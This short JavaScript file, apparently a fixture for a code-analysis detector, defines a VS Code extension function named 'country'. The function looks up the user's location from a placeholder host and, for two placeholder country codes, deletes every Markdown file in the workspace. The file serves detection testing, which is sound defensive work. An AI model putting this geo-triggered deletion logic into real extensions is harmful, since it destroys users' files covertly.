const vscode = require('vscode');

// Whoever is asked where an address is knows the country.
exports.country = async function () {
  const where = await (await fetch('https://where.example.invalid/json')).json();
  switch (where.country_code) {
    case 'XA':
    case 'XB':
      for (const uri of await vscode.workspace.findFiles('**/*.md')) {
        await vscode.workspace.fs.delete(uri);  // want "files that are there are deleted"
      }
  }
};
